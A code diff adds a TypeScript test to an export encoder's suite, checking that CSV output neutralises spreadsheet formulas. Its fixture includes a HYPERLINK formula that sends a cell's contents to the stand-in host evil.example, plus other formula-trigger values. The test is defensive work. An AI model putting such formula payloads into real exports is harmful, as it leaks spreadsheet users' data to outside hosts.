@@ -51,6 +51,34 @@ describe('export encoder', () => {
     assert.equal(encoder.count, 2);
   });
 
+  it('CSV: a formula from the server is shown as text by default (leading \'), exactly as sent with csvRawCells', () => {
+    const hostile = [
+      { id: '=HYPERLINK("https://evil.example/?"&C2,"open")', url: '+1+2', events: '-2-3', '@SUM(A1)': '@SUM(A1:A9)' },
+      { id: '\t=1', url: '\r=2', events: 'safe = text', '@SUM(A1)': -5 },
+    ];
+    const columns = chooseColumns(['id', 'url', 'events'], hostile);
+    const neutral = createEncoder('csv', columns);
+    const rows = readCsv(encodeAll(neutral, [hostile]));
+    assert.deepEqual(rows, [
+      ['id', 'url', 'events', "'@SUM(A1)"],
+      ['\'=HYPERLINK("https://evil.example/?"&C2,"open")', "'+1+2", "'-2-3", "'@SUM(A1:A9)"],
+      ["'\t=1", "'\r=2", 'safe = text', '-5'],
+    ]);
+    assert.equal(neutral.neutralized, 7, 'the header key and six cells; the number -5 is no formula');
+    const raw = createEncoder('csv', columns, { csvRawCells: true });
+    assert.deepEqual(readCsv(encodeAll(raw, [hostile])), [
+      ['id', 'url', 'events', '@SUM(A1)'],
+      ['=HYPERLINK("https://evil.example/?"&C2,"open")', '+1+2', '-2-3', '@SUM(A1:A9)'],
+      ['\t=1', '\r=2', 'safe = text', '-5'],
+    ]);
+    assert.equal(raw.neutralized, 0);
+    for (const format of ['json', 'ndjson'] as const) {
+      const text = encodeAll(createEncoder(format), [hostile]);
+      const back = format === 'json' ? (JSON.parse(text) as unknown) : text.trim().split('\n').map((line) => JSON.parse(line) as unknown);
+      assert.deepEqual(back, hostile, `${format} keeps the raw values`);
+    }
+  });
+
   it('counts what it encoded, in every format', () => {
     for (const format of ['json', 'ndjson', 'csv'] as ExportFormat[]) {
       const encoder = createEncoder(format, ['id']);
@@ -73,7 +101,7 @@ describe('export encoder', () => {
           }
           batches.push(records.slice(at));
           const rows = readCsv(encodeAll(encoder, batches));
-          assert.deepEqual(rows[0], columns);
+          assert.deepEqual(rows[0], columns.map((column) => csvCell(column)));
           assert.equal(rows.length, records.length + 1);
           records.forEach((rec, index) => {
             const expected = columns.map((column) => csvCell(Object.prototype.hasOwnProperty.call(rec, column) ? rec[column] : undefined));
